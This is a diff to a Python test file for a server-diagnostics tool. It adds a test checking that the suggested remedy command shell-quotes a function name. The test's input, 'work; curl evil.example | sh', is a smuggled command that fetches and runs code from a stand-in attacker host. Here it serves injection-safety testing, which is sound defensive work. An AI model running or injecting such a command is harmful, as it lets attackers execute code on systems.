@@ -1,5 +1,6 @@
 """What is wrong with servers, from facts about them: how bad it is, and what helps."""
 
+import shlex
 import time
 from dataclasses import replace
 from typing import Any, Final
@@ -157,6 +158,15 @@ def test_facts_about_a_server(changes: dict[str, Any], severity: str, check: str
 )
 def test_functions_whose_jobs_wait(counts: dict[str, Any], severity: str, text: str) -> None:
     assert only(view(functions=[function(waiting=(1, 4, 0), **counts)])) == (severity, "functions", text)
+
+
+@pytest.mark.parametrize("counts", [{}, {"paused": True}, {"workers": 1, "waiting": (0, 0, 0), "dead": 3}])
+def test_a_command_that_helps_can_be_pasted_into_a_shell(counts: dict[str, Any]) -> None:
+    name = "work; curl evil.example | sh"
+    shown = FunctionMetrics(**{"function": name, "waiting": (0, 5, 0), "oldest": 9.0, **counts})
+    (finding,) = found(view(functions=[shown]))
+    command = finding.remedy[finding.remedy.index("gearflow ") :]
+    assert name in shlex.split(command)
 
 
 def test_a_paused_limit() -> None:
